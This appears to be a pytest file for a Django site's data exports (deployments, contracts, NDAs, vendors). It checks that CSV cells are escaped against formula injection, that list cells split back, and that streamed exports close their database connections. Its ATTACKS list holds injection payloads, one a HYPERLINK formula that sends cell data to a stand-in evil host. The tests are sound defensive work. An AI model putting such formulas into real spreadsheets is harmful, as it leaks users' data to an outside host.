"""Every CSV export: formula cells neutralised (and restored by the import), list cells that
split back, one row per record with its id and absolute address, only published records and
sources, and streamed responses that close their database connection."""

import csv
import io
import itertools
import json
import re

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections, connection, connections

from apps.contracts import csv_format as contract_format
from apps.core.exports import join_list, neutralise, restore, split_list
from apps.core.models import Visibility
from apps.deployments import csv_format as deployment_format
from apps.deployments.models import Deployment
from apps.records.registry import publishable_kinds
from apps.sources.views import SourceExportView
from tests.factories import (
    KIND_FACTORIES,
    AgencyFactory,
    ContractFactory,
    DeploymentFactory,
    NdaFactory,
    ProductFactory,
    SourceFactory,
    VendorFactory,
)
from tests.importing.helpers import (
    deployment_row,
    import_data,
    refused,
    write_csv,
)

# Every list with an export whose records cite sources, with the factory that makes one.
CITING_KINDS = [
    (kind.key, KIND_FACTORIES[kind.key])
    for kind in publishable_kinds()
    if kind.export and not kind.evidence
]

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2,"x")',
    "+1+1",
    "@SUM(A1)",
    "-1+2",
    "\tcell",
    "\rcell",
    "'=1+1",
    "'",
]


# ---------------------------------------------------------------------------------------------
# The cell rules


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_a_spreadsheet_would_evaluate_is_prefixed_and_restored(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["-122.989827", "-5", "12000.00", "Plain text", "", "a=b"])
def test_plain_numbers_and_text_are_left_alone(value):
    assert neutralise(value) == value


def test_restore_undoes_neutralise_for_every_short_value():
    # Every string of up to 4 characters over the characters that matter.
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " "]
    for length in range(5):
        for chars in itertools.product(alphabet, repeat=length):
            value = "".join(chars)
            written = neutralise(value)
            assert restore(written) == value, repr(value)
            assert not written.startswith(("=", "+", "@", "\t", "\r")), repr(value)
            if written.startswith("-"):
                assert float(written) <= 0, repr(value)  # only a plain negative number


def test_a_hand_written_quote_before_a_formula_is_dropped_any_other_kept():
    assert restore("'=1+1") == "=1+1"
    assert restore("'abc") == "'abc"
    assert restore("''abc") == "'abc"


@pytest.mark.parametrize(
    "values",
    [
        ["a", "b"],
        ["Report | Example News", "x||y", "|", "end|"],
        ["", "2018"],
        ["", ""],
        ["only"],
    ],
)
def test_list_cells_split_back_into_their_values(values):
    cell = join_list(values)
    # The import strips every cell, which takes the spaces around an empty last value.
    assert split_list(cell.strip()) == values


def test_an_empty_list_cell_has_no_values():
    assert join_list([]) == ""
    assert split_list("") == []


# ---------------------------------------------------------------------------------------------
# Through the views


def csv_rows(client, kind, query=""):
    response = client.get(f"/{kind}/export.csv?{query}")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def json_results(client, kind, query=""):
    response = client.get(f"/{kind}/export.json?{query}")
    assert response.status_code == 200
    return json.loads(b"".join(response.streaming_content))["results"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("kind", "make", "column"),
    [
        ("deployments", lambda value: DeploymentFactory(summary=value), "summary"),
        ("contracts", lambda value: ContractFactory(title=value), "title"),
        ("ndas", lambda value: NdaFactory(scope=value), "scope"),
        ("agencies", lambda value: AgencyFactory(name=value), "name"),
        ("vendors", lambda value: VendorFactory(description=value), "description"),
        ("products", lambda value: ProductFactory(description=value), "description"),
        ("sources", lambda value: SourceFactory(title=value), "title"),
    ],
)
def test_every_csv_export_neutralises_formulas(client, kind, make, column):
    for value in ATTACKS:
        make(value)
    exported = {row[column] for row in csv_rows(client, kind)}
    assert {"'" + value for value in ATTACKS} <= exported
    assert not any(cell.startswith(("=", "+", "@")) for cell in exported)
    # JSON is data, not a spreadsheet: it keeps the values as they are.
    assert set(ATTACKS) <= {record[column] for record in json_results(client, kind)}


@pytest.mark.django_db
def test_the_import_restores_what_the_export_escaped(tmp_path):
    path = write_csv(
        tmp_path,
        [deployment_row(summary='\'=HYPERLINK("x")', source_title="''quoted title")],
        kind="deployments",
    )
    import_data("deployments", path)
    deployment = Deployment.objects.get()
    assert deployment.summary == '=HYPERLINK("x")'
    assert deployment.sources.get().title == "'quoted title"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("kind", "factory"),
    [*CITING_KINDS, ("sources", SourceFactory)],
)
def test_every_export_has_one_row_per_published_record_with_id_and_address(client, kind, factory):
    shown = factory()
    factory(visibility=Visibility.PENDING)
    for export in (csv_rows(client, kind), json_results(client, kind)):
        assert [str(row["id"]) for row in export] == [str(shown.pk)]
        assert export[0]["url"] == f"http://testserver{shown.get_absolute_url()}"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("kind", "factory"),
    CITING_KINDS,
)
def test_the_page_says_how_many_rows_its_download_has_and_it_has_them(client, kind, factory):
    for record in factory.create_batch(3):
        record.sources.add(*SourceFactory.create_batch(2))
    page = client.get(f"/{kind}/").content.decode()
    said = re.search(r"one row for each of the (\d+) ", page)
    assert said is not None and said.group(1) == "3"
    csv_link = re.search(r'<a href="([^"]+export\.csv[^"]*)" download>', page).group(1)
    text = b"".join(client.get(csv_link.replace("&amp;", "&")).streaming_content).decode()
    assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 3


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("kind", "factory"),
    CITING_KINDS,
)
def test_only_published_sources_are_listed(client, kind, factory):
    published = SourceFactory(url="https://a.example.org/published")
    pending = SourceFactory(url="https://b.example.org/pending", visibility=Visibility.PENDING)
    factory(sources=[published, pending])
    (row,) = csv_rows(client, kind)
    assert row["source_urls"] == published.url
    assert row["source_titles"] == published.title
    (record,) = json_results(client, kind)
    assert [source["url"] for source in record["sources"]] == [published.url]


@pytest.mark.django_db
@pytest.mark.parametrize(("kind", "factory"), CITING_KINDS)
def test_json_lines_hold_the_json_exports_objects_one_a_line(client, kind, factory):
    factory.create_batch(3)
    response = client.get(f"/{kind}/export.jsonl")
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert [json.loads(line) for line in lines] == json_results(client, kind)
    assert len(lines) == 3


def test_an_invalid_filter_of_json_lines_is_a_json_400(client, db):
    response = client.get("/deployments/export.jsonl?status=nonsense")
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")


# ---------------------------------------------------------------------------------------------
# What covers a deployment


@pytest.mark.django_db
def test_deployment_rows_give_the_contracts_and_ndas_that_cover_them(client):
    parent = VendorFactory(name="Parent Co")
    subsidiary = VendorFactory(name="Subsidiary Co", parent=parent)
    agency = AgencyFactory()
    deployment = DeploymentFactory(agency=agency, product=ProductFactory(vendor=subsidiary))
    parents_deployment = DeploymentFactory(agency=agency, product=ProductFactory(vendor=parent))
    with_subsidiary = NdaFactory(agency=agency, counterparty_vendor=subsidiary)
    with_parent = NdaFactory(agency=agency, counterparty_vendor=parent)
    NdaFactory(agency=AgencyFactory(), counterparty_vendor=subsidiary)  # another agency
    NdaFactory(agency=agency, counterparty_vendor=subsidiary, visibility=Visibility.PENDING)
    NdaFactory(agency=agency, counterparty_vendor=None, counterparty_agency=AgencyFactory())
    contracts = ContractFactory.create_batch(2, agency=agency, vendor=subsidiary)
    for contract in contracts:
        contract.deployments.add(deployment)
    ContractFactory(visibility=Visibility.PENDING).deployments.add(deployment)

    rows = {row["id"]: row for row in csv_rows(client, "deployments")}
    records = {record["id"]: record for record in json_results(client, "deployments")}

    row = rows[str(deployment.pk)]
    expected_ndas = sorted([with_subsidiary.pk, with_parent.pk])
    assert row["nda_ids"] == " | ".join(str(pk) for pk in expected_ndas)
    assert row["contract_ids"] == " | ".join(str(contract.pk) for contract in contracts)
    assert row["vendor_slug"] == subsidiary.slug and row["agency_slug"] == agency.slug
    # An NDA with the subsidiary does not cover what the parent company sold.
    assert rows[str(parents_deployment.pk)]["nda_ids"] == str(with_parent.pk)
    assert records[deployment.pk]["ndas"] == expected_ndas
    assert records[deployment.pk]["contracts"] == [contract.pk for contract in contracts]


# ---------------------------------------------------------------------------------------------
# Connections


@pytest.fixture
def closes(monkeypatch):
    """The calls to the default connection's close(), which still closes it (an in-memory
    SQLite test database ignores it, hence the count). Django's own closing at the end of a
    request (close_old_connections, which keeps a connection younger than CONN_MAX_AGE) is
    off, as it is while the test client reads a streamed body."""
    request_finished.disconnect(close_old_connections)
    wrapper = connections["default"]
    calls = []
    original = wrapper.close

    def close():
        calls.append(wrapper.in_atomic_block)
        original()

    monkeypatch.setattr(wrapper, "close", close)
    yield calls
    request_finished.connect(close_old_connections)


# Real commits, as outside tests: the streamed body is read after the view's transaction.
# serialized_rollback brings back the technologies the migrations seed.
outside_a_transaction = pytest.mark.django_db(transaction=True, serialized_rollback=True)


@outside_a_transaction
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_streamed_export_closes_its_database_connection(client, closes, fmt):
    DeploymentFactory()
    response = client.get(f"/deployments/export.{fmt}")
    assert closes == []  # still reading
    b"".join(response.streaming_content)
    assert closes == [False]
    if connection.vendor != "sqlite":
        assert connection.connection is None


@outside_a_transaction
def test_a_stream_closed_early_closes_its_connection_too(rf, closes):
    SourceFactory.create_batch(2)
    # The view itself: the test client's own wrapper would close the response once more.
    response = SourceExportView.as_view()(rf.get("/sources/export.csv"), fmt="csv")
    next(iter(response.streaming_content))
    assert closes == []
    response.close()  # what the server does when the client goes away
    assert closes == [False]


@pytest.mark.django_db
def test_inside_a_transaction_the_connection_is_left_open(client, closes):
    DeploymentFactory()
    response = client.get("/deployments/export.csv")
    b"".join(response.streaming_content)
    assert closes == []
    assert connection.connection is not None


# ---------------------------------------------------------------------------------------------
# The one-row-per-record layout's own problems


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("cells", "message"),
    [
        (
            {"source_titles": "One | Two"},
            "line 2: source_titles: has 2 values for 1 URL in source_urls: give one per URL, "
            "in the same order, or leave it empty.",
        ),
        (
            {"source_urls": "https://a.example.org/x | https://a.example.org/x"},
            "line 2: source_urls: lists https://a.example.org/x more than once.",
        ),
        ({"source_urls": "https://a.example.org/x |  | https://b.example.org/y"}, "is empty"),
        ({"id": "12a"}, "line 2: id: “12a” is not a record id (a whole number)."),
        ({"source_dates": "2018-13"}, "line 2: source_dates: "),
        ({"source_urls": "not a url"}, "line 2: source_urls: Enter a valid URL."),
        (
            {"source_urls": "https://a.example.org/x | https://b.example.org/y"},
            "line 2: source_titles: has 1 value for 2 URLs in source_urls",
        ),
        (
            {"source_urls": "https://a.example.org/x", "source_titles": ""},
            "line 2: source_titles: a new source needs a title (no source has the URL "
            "https://a.example.org/x yet).",
        ),
    ],
)
def test_bad_list_cells_are_bad_rows(tmp_path, cells, message):
    row = {
        **deployment_row(),
        "id": "7",
        "url": "https://elsewhere.example/deployments/7/",
        "source_urls": "https://a.example.org/x",
        "source_titles": "A title",
        **cells,
    }
    path = write_csv(tmp_path, [row], kind="deployments", columns=deployment_format.COLUMNS)
    assert message in refused("deployments", path)


@pytest.mark.django_db
def test_a_contracts_deployment_ids_must_be_ids(client, tmp_path):
    ContractFactory()
    response = client.get("/contracts/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    rows[0]["deployment_ids"] = "12 | twelve"
    path = write_csv(tmp_path, rows, kind="contracts", columns=contract_format.COLUMNS)
    assert "line 2: deployment_ids: “twelve” is not a record id (a whole number)." in refused(
        "contracts", path
    )
